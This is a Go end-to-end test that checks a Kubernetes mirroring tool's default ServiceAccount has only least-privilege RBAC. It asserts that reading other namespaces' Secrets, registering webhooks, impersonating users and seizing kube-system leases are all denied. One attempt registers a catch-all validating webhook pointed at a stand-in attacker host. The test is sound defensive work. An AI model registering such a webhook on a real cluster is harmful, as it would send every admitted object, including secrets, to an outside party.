package e2e

import (
	"bytes"
	"context"
	"errors"
	"io"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	utilyaml "k8s.io/apimachinery/pkg/util/yaml"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"

	v1alpha1 "github.com/kubescribe/kubescribe/api/v1alpha1"
	"github.com/kubescribe/kubescribe/test/stack"
)

// The ServiceAccount deploy/base/rbac.yaml creates and binds to its ClusterRole.
const (
	installedSANamespace = "kubescribe"
	installedSAName      = "kubescribe"
	installedSAUser      = "system:serviceaccount:kubescribe:kubescribe"
)

// kubescribe runs as the ServiceAccount of the default install, holding only deploy/base/rbac.yaml's
// ClusterRole and what `kubescribe rbac` prints for a WatchRule on ConfigMaps and its
// GitProvider's Secret. alice's ConfigMap is mirrored and authored by her; the identity cannot
// read a Secret of another namespace, list Secrets, or register a webhook; a WatchRule on a
// resource nobody granted reports WatchFailed, and mirroring goes on.
func TestLeastPrivilegeInstall(t *testing.T) {
	ctx := context.Background()
	const ns, other = "e2e-rbac", "e2e-rbac-other"
	admin := clientFor(t, "admin")

	// The usual kubescribe (the token user "kubescribe", which reads everything) must not
	// mirror this namespace first: it is stopped, and started again at the end.
	require.NoError(t, env.StopKubescribe())
	t.Cleanup(func() {
		require.NoError(t, env.StopKubescribe())
		require.NoError(t, env.StartKubescribe(context.Background()))
	})

	m := setUpTarget(t, env, ns, "", []string{"alice"}, configMapWriters)
	create(t, v1alpha1.WatchRulesResource, ns, &v1alpha1.WatchRule{
		TypeMeta:   metav1.TypeMeta{APIVersion: "kubescribe.dev/v1alpha1", Kind: "WatchRule"},
		ObjectMeta: metav1.ObjectMeta{Name: "configmaps", Namespace: ns},
		Spec:       v1alpha1.WatchRuleSpec{TargetRef: v1alpha1.LocalObjectReference{Name: "target"}, Rules: watchConfigMaps},
	})
	_, err := admin.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: other}}, metav1.CreateOptions{})
	require.NoError(t, err)
	_, err = admin.CoreV1().Secrets(other).Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "database"},
		StringData: map[string]string{"password": "not-for-kubescribe"}}, metav1.CreateOptions{})
	require.NoError(t, err)

	// The operator's step: print the grant for the rules, from files, and apply it.
	rules := filepath.Join(t.TempDir(), "rules.yaml")
	require.NoError(t, os.WriteFile(rules, []byte(`apiVersion: kubescribe.dev/v1alpha1
kind: GitProvider
metadata: {name: repo, namespace: `+ns+`}
spec: {url: https://git.example.invalid/r.git, secretRef: {name: git-credentials}}
---
apiVersion: kubescribe.dev/v1alpha1
kind: GitTarget
metadata: {name: target, namespace: `+ns+`}
spec: {providerRef: {name: repo}, branch: main}
---
apiVersion: kubescribe.dev/v1alpha1
kind: WatchRule
metadata: {name: configmaps, namespace: `+ns+`}
spec: {targetRef: {name: target}, rules: [{apiGroups: [""], resources: [configmaps]}]}
`), 0o600))
	adminKubeconfig := kubeconfigFor(t, "admin")
	fromFiles := runCLI(t, "rbac", "--kubeconfig", adminKubeconfig, "-f", rules)
	require.Equal(t, 0, fromFiles.code, "stderr: %s", fromFiles.stderr)
	wantRole := []rbacv1.PolicyRule{
		{APIGroups: []string{""}, Resources: []string{"configmaps"}, Verbs: []string{"list", "watch"}},
		{APIGroups: []string{""}, Resources: []string{"secrets"}, ResourceNames: []string{"git-credentials"}, Verbs: []string{"get"}},
	}
	printed := decodeRoles(t, fromFiles.stdout)
	require.Equal(t, map[string][]rbacv1.PolicyRule{ns: wantRole}, printed, "output:\n%s", fromFiles.stdout)

	// Read from the cluster, the same objects give the same Role (other tests' objects may
	// add Roles of their own namespaces).
	fromCluster := runCLI(t, "rbac", "--kubeconfig", adminKubeconfig)
	require.Equal(t, 0, fromCluster.code, "stderr: %s", fromCluster.stderr)
	require.Equal(t, wantRole, decodeRoles(t, fromCluster.stdout)[ns], "output:\n%s", fromCluster.stdout)

	require.NoError(t, stack.Apply(ctx, env.AdminConfig, []byte(fromFiles.stdout)))
	waitAllowed(t, admin, authorizationv1.ResourceAttributes{Namespace: ns, Verb: "get", Resource: "secrets", Name: "git-credentials"})
	waitAllowed(t, admin, authorizationv1.ResourceAttributes{Namespace: ns, Verb: "watch", Resource: "configmaps"})

	sa := serviceAccountConfig(t, admin)
	require.NoError(t, env.StartKubescribeAs(ctx, sa))
	// Created while kubescribe (its webhook) was down: vouched for now.
	vouchFor(t, v1alpha1.GitProvidersResource, ns, "repo")
	waitReady(t, v1alpha1.WatchRulesResource, ns, "configmaps", metav1.ConditionTrue, v1alpha1.ReasonReady)

	// (1) A ConfigMap change is mirrored and authored by its writer.
	alice := clientFor(t, "alice").CoreV1().ConfigMaps(ns)
	createConfigMaps(t, alice, "first")
	got := m.waitCommits(t, 1)
	require.Equal(t, "alice|alice@users.kubescribe.invalid|kubescribe|create configmaps "+ns+"/first", got[len(got)-1])
	// Its metrics listener reviews a scraper's token and access with the install's grants.
	_, err = env.ScrapeMetrics()
	require.NoError(t, err, "/metrics with the installed ServiceAccount's TokenReviews and SubjectAccessReviews")

	// (2) What else the identity may do: nothing of the kind an attacker in its Pod wants.
	for _, attrs := range []authorizationv1.ResourceAttributes{
		{Namespace: other, Verb: "get", Resource: "secrets", Name: "database"},
		{Namespace: other, Verb: "list", Resource: "secrets"},
		{Namespace: ns, Verb: "list", Resource: "secrets"},
		{Namespace: ns, Verb: "get", Resource: "secrets", Name: "another"},
		{Verb: "list", Resource: "secrets"},
		{Namespace: other, Verb: "list", Resource: "configmaps"},
		{Verb: "create", Group: "admissionregistration.k8s.io", Resource: "validatingwebhookconfigurations"},
		{Verb: "create", Group: "admissionregistration.k8s.io", Resource: "mutatingwebhookconfigurations"},
		// Leases only in its own namespace (the replicas' coordination): not another's, such as
		// the controllers' leader Leases of kube-system.
		{Verb: "create", Group: "coordination.k8s.io", Resource: "leases", Namespace: "kube-system"},
		{Verb: "update", Group: "coordination.k8s.io", Resource: "leases", Namespace: "kube-system", Name: "kube-controller-manager"},
		{Verb: "create", Group: "coordination.k8s.io", Resource: "leases", Namespace: other},
		{Verb: "impersonate", Resource: "users"},
		{Namespace: ns, Verb: "create", Resource: "configmaps"},
	} {
		require.False(t, allowed(t, admin, attrs), "%s may %s %s %s/%s", installedSAUser, attrs.Verb, attrs.Resource, attrs.Namespace, attrs.Name)
	}
	// And tried for real, with its own credentials.
	asSA, err := kubernetes.NewForConfig(sa)
	require.NoError(t, err)
	_, err = asSA.CoreV1().Secrets(other).Get(ctx, "database", metav1.GetOptions{})
	require.True(t, apierrors.IsForbidden(err), "reading another namespace's Secret: %v", err)
	_, err = asSA.CoreV1().Secrets(ns).List(ctx, metav1.ListOptions{})
	require.True(t, apierrors.IsForbidden(err), "listing Secrets: %v", err)
	none := admissionregistrationv1.SideEffectClassNone
	url := "https://attacker.example.invalid/"
	_, err = asSA.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(ctx, &admissionregistrationv1.ValidatingWebhookConfiguration{
		ObjectMeta: metav1.ObjectMeta{Name: "kubescribe-attribution"},
		Webhooks: []admissionregistrationv1.ValidatingWebhook{{Name: "steal.example.invalid", SideEffects: &none,
			AdmissionReviewVersions: []string{"v1"}, ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: &url},
			Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{"*"},
				Rule: admissionregistrationv1.Rule{APIGroups: []string{"*"}, APIVersions: []string{"*"}, Resources: []string{"*"}}}}}},
	}, metav1.CreateOptions{})
	require.True(t, apierrors.IsForbidden(err), "registering a webhook: %v", err)

	// (3) A WatchRule on a resource nobody granted: WatchFailed, and nothing else stops.
	require.False(t, allowed(t, admin, authorizationv1.ResourceAttributes{Namespace: ns, Verb: "list", Resource: "podtemplates"}))
	create(t, v1alpha1.WatchRulesResource, ns, &v1alpha1.WatchRule{
		TypeMeta:   metav1.TypeMeta{APIVersion: "kubescribe.dev/v1alpha1", Kind: "WatchRule"},
		ObjectMeta: metav1.ObjectMeta{Name: "podtemplates", Namespace: ns},
		Spec: v1alpha1.WatchRuleSpec{TargetRef: v1alpha1.LocalObjectReference{Name: "target"},
			Rules: []v1alpha1.ResourceRule{{APIGroups: []string{""}, Resources: []string{"podtemplates"}}}},
	})
	cond := waitReady(t, v1alpha1.WatchRulesResource, ns, "podtemplates", metav1.ConditionFalse, v1alpha1.ReasonWatchFailed)
	require.Contains(t, cond.Message, "forbidden")
	createConfigMaps(t, alice, "second")
	got = m.waitCommits(t, 2)
	require.Equal(t, "alice|alice@users.kubescribe.invalid|kubescribe|create configmaps "+ns+"/second", got[len(got)-1])
	waitReady(t, v1alpha1.WatchRulesResource, ns, "configmaps", metav1.ConditionTrue, v1alpha1.ReasonReady)
	for _, c := range got {
		require.Regexp(t, `^alice\|alice@users\.kubescribe\.invalid\|kubescribe\|`, c)
	}
}

// decodeRoles reads the Roles of `kubescribe rbac`'s output, by namespace ("" for the
// ClusterRole), and checks every binding grants them to the installed ServiceAccount.
func decodeRoles(t *testing.T, out string) map[string][]rbacv1.PolicyRule {
	t.Helper()
	roles := map[string][]rbacv1.PolicyRule{}
	dec := utilyaml.NewYAMLOrJSONDecoder(bytes.NewReader([]byte(out)), 4096)
	for {
		var obj struct {
			metav1.TypeMeta `json:",inline"`
			Metadata        metav1.ObjectMeta   `json:"metadata"`
			Rules           []rbacv1.PolicyRule `json:"rules"`
			Subjects        []rbacv1.Subject    `json:"subjects"`
		}
		err := dec.Decode(&obj)
		if errors.Is(err, io.EOF) {
			return roles
		}
		require.NoError(t, err)
		switch obj.Kind {
		case "Role", "ClusterRole":
			roles[obj.Metadata.Namespace] = obj.Rules
		case "RoleBinding", "ClusterRoleBinding":
			require.Equal(t, []rbacv1.Subject{{Kind: "ServiceAccount", Namespace: installedSANamespace, Name: installedSAName}}, obj.Subjects)
		case "":
		default:
			t.Fatalf("unexpected %s in the output", obj.Kind)
		}
	}
}

// serviceAccountConfig is a rest config authenticating as the installed ServiceAccount, with a
// token the apiserver issues for it (TokenRequest, as the kubelet would mount it).
func serviceAccountConfig(t *testing.T, admin kubernetes.Interface) *rest.Config {
	t.Helper()
	kc := clientcmdapi.NewConfig()
	kc.Clusters["e2e"] = &clientcmdapi.Cluster{Server: env.AdminConfig.Host, CertificateAuthorityData: env.AdminConfig.CAData}
	kc.AuthInfos["sa"] = &clientcmdapi.AuthInfo{Token: serviceAccountToken(t, admin, installedSANamespace, installedSAName)}
	kc.Contexts["e2e"] = &clientcmdapi.Context{Cluster: "e2e", AuthInfo: "sa"}
	kc.CurrentContext = "e2e"
	cfg, err := clientcmd.NewDefaultClientConfig(*kc, nil).ClientConfig()
	require.NoError(t, err)
	cfg.QPS, cfg.Burst = 100, 200
	return cfg
}

// allowed asks the apiserver whether the installed ServiceAccount may do attrs.
func allowed(t *testing.T, admin kubernetes.Interface, attrs authorizationv1.ResourceAttributes) bool {
	t.Helper()
	sar, err := admin.AuthorizationV1().SubjectAccessReviews().Create(context.Background(), &authorizationv1.SubjectAccessReview{
		Spec: authorizationv1.SubjectAccessReviewSpec{User: installedSAUser,
			Groups:             []string{"system:serviceaccounts", "system:serviceaccounts:" + installedSANamespace, "system:authenticated"},
			ResourceAttributes: &attrs}}, metav1.CreateOptions{})
	require.NoError(t, err)
	return sar.Status.Allowed
}

// waitAllowed waits until the apiserver's RBAC authorizer has learnt a new grant.
func waitAllowed(t *testing.T, admin kubernetes.Interface, attrs authorizationv1.ResourceAttributes) {
	t.Helper()
	require.True(t, poll(30*time.Second, func() bool { return allowed(t, admin, attrs) }),
		"%s may still not %s %s in %q", installedSAUser, attrs.Verb, attrs.Resource, attrs.Namespace)
}
